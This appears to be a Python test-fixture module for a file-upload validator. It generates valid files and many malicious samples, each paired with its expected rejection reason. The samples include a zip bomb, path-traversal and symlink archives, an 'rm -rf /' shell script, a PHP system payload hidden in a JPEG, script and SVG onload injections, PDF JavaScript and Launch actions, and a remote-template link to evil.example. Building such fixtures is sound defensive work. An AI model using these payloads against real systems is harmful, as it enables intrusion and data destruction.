"""Files for upload tests, made here: good ones of each type, and bad ones of many kinds."""

import io
import struct
import zipfile
import zlib

CONTENT_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.x.main+xml"/></Types>'
)
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(1, 60)) + b"\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff;"
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + bytes(40)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


def packed(parts, *, comment=b"", how=zipfile.ZIP_DEFLATED):
    """A ZIP of `name → content`."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", how) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
        archive.comment = comment
    return out.getvalue()


def docx(**more):
    """A Word file with further parts."""
    parts = {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w/>"}
    return packed({**parts, **more})


def odt(**more):
    kind = "application/vnd.oasis.opendocument.text"
    return packed({"mimetype": kind, "content.xml": "<o/>", **more})


def png():
    def chunk(name, data):
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    parts = ((b"IHDR", head), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(*part) for part in parts)


def bomb():
    """30 MB of nothing in 30 kB."""
    return packed({"big.txt": b"a" * 30_000_000})


def encrypted():
    """A ZIP whose member says that it is encrypted."""
    content = bytearray(packed({"a.txt": b"secret"}, how=zipfile.ZIP_STORED))
    content[6] |= 1
    content[content.find(b"PK\x01\x02") + 8] |= 1
    return bytes(content)


def symlink():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        info = zipfile.ZipInfo("link.txt")
        info.create_system = 3
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def overlapping():
    """Two entries of the directory that stand for one and the same part."""
    content = packed({"a.txt": b"a" * 2000}, how=zipfile.ZIP_STORED)
    at = content.find(b"PK\x01\x02")
    end = content.find(b"PK\x05\x06")
    entry = content[at:end]
    tail = bytearray(content[end:])
    struct.pack_into("<HHI", tail, 8, 2, 2, 2 * len(entry))
    return content[:at] + entry * 2 + bytes(tail)


REMOTE = (
    '<Relationships><Relationship Id="r" Type="http://x/relationships/attachedTemplate" '
    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
LINK = (
    '<Relationships><Relationship Id="r" Type="http://x/relationships/hyperlink" '
    'Target="http://ok.example/" TargetMode="External"/></Relationships>'
)
GOOD = {
    "report.pdf": PDF,
    "图纸.PNG": png(),
    "photo.jpeg": JPEG,
    "a.gif": GIF,
    "film.mp4": MP4,
    "说明.txt": "出水 COD ≤ 50 mg/L".encode(),
    "旧.txt": "含盐废水深度处理，难以降解".encode("gb18030"),
    "data.csv": b"a,b\r\n1,2\r\n",
    "letter.docx": docx(**{"word/_rels/document.xml.rels": LINK}),
    "text.odt": odt(),
    "all.zip": packed({"图/a.png": png(), "b.pdf": PDF, "c.docx": docx()}),
}
BAD = {
    "empty.pdf": (b"", "empty"),
    "page.pdf": (b"<!doctype html><script>alert(1)</script>", "web page"),
    "drawing.svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "web page"),
    "xml.txt": (b'<?xml version="1.0"?><svg onload="x"/>', "web page"),
    "late.txt": (b"a" * 9000 + b"<ScRiPt>", "web page"),
    "tool.exe": (b"MZ\x90\x00" + bytes(100), "program"),
    "report.pdf.exe": (PDF, "by its name .exe"),
    "elf.pdf": (b"\x7fELF" + bytes(100), "program"),
    "run.sh": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "run.txt": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "code.js": (b"alert(1)", "by its name .js"),
    "noending": (PDF, "by its name"),
    "picture.pdf": (png(), "by its content this is PNG"),
    "renamed.png": (PDF, "by its content this is PDF"),
    "cut.pdf": (PDF[:30], "cut off"),
    "cut.png": (png()[:-9], "cut off"),
    "locked.pdf": (PDF.replace(b"/Root", b"/Encrypt 2 0 R/Root"), "password"),
    "active.pdf": (
        PDF.replace(b"/Catalog", b"/Catalog/OpenAction<</S/JavaScript/JS(x)>>"),
        "can run",
    ),
    "launch.pdf": (PDF.replace(b"/Catalog", b"/Catalog/AA<</S /Launch>>"), "can run"),
    "pdfzip.pdf": (PDF + packed({"a.exe": b"MZ"}), "hidden"),
    "pngzip.png": (png()[:-12] + packed({"a.txt": b"x"}) + png()[-12:], "hidden"),
    "gifjs.gif": (GIF + b"<script>alert(1)</script>", "hidden"),
    "jpgphp.jpg": (JPEG[:-2] + b"<?php system(1) ?>\xff\xd9", "hidden"),
    "jpgpdf.jpg": (JPEG[:20] + PDF + b"\xff\xd9", "hidden"),
    "old.doc": (OLE, "old Office"),
    "locked.docx": (OLE + "EncryptedPackage".encode("utf-16-le"), "password"),
    "macro.docm": (docx(**{"word/vbaProject.bin": "x"}), "macros"),
    "macro.docx": (docx(**{"word/vbaProject.bin": b"x"}), "macros"),
    "activex.docx": (docx(**{"word/activeX/activeX1.xml": b"x"}), "macros"),
    "remote.docx": (docx(**{"word/_rels/settings.xml.rels": REMOTE}), "from elsewhere"),
    "parcel.docx": (
        docx(**{"word/embeddings/oleObject1.bin": OLE + "\x01Ole10Native".encode("utf-16-le")}),
        "packed into",
    ),
    "macro.odt": (odt(**{"Basic/Standard/a.xml": "x"}), "macros"),
    "locked.odt": (odt(**{"META-INF/manifest.xml": "<m:encryption-data/>"}), "password"),
    "unknown.docx": (packed({"[Content_Types].xml": "<Types/>", "x.xml": "x"}), "not taken"),
    "bomb.zip": (bomb(), "unpacks to too much"),
    "many.zip": (packed({f"{n}.txt": b"x" for n in range(5001)}), "unpacks to too much"),
    "nested.zip": (packed({"a.zip": packed({"b.txt": b"x"})}), "another one"),
    "inside.zip": (packed({"setup.exe": b"MZ" + bytes(60)}), "“setup.exe”: This is a program"),
    "up.zip": (packed({"../../a.txt": b"x"}), "elsewhere"),
    "root.zip": (packed({"/etc/a.txt": b"x"}), "elsewhere"),
    "link.zip": (symlink(), "elsewhere"),
    "locked.zip": (encrypted(), "password"),
    "rare.zip": (packed({"a.txt": b"x"}, how=zipfile.ZIP_BZIP2), "rare way"),
    "before.zip": (b"PK\x03\x04 something first " + packed({"a.txt": b"x"}), "hidden"),
    "behind.zip": (packed({"a.txt": b"x"}) + b"MZ and more", "hidden"),
    "twice.zip": (overlapping(), "unpacks to too much|cut off"),
    "broken.zip": (b"PK\x03\x04" + bytes(60), "cut off"),
    "a.rar": (b"Rar!\x1a\x07\x00" + bytes(20), "only .zip"),
    "a.7z": (b"7z\xbc\xaf\x27\x1c" + bytes(20), "only .zip"),
    "noise.bin": (bytes(range(256)), "not taken"),
}
"""`name → (content, what the error says)`."""
